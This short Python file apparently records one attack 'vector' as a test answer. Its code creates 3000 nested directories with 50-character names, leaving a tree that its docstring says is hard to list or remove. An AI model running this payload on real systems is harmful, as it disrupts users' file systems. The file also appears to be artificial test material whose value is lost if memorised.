"""Gets nothing today: leaves folders so deep that they are hard to list or remove."""

ANSWERS = {
    "vector": """
import os

home = os.open(".", os.O_RDONLY)
for _ in range(3000):
    os.mkdir("d" * 50)
    os.chdir("d" * 50)
os.fchdir(home)
""",
}
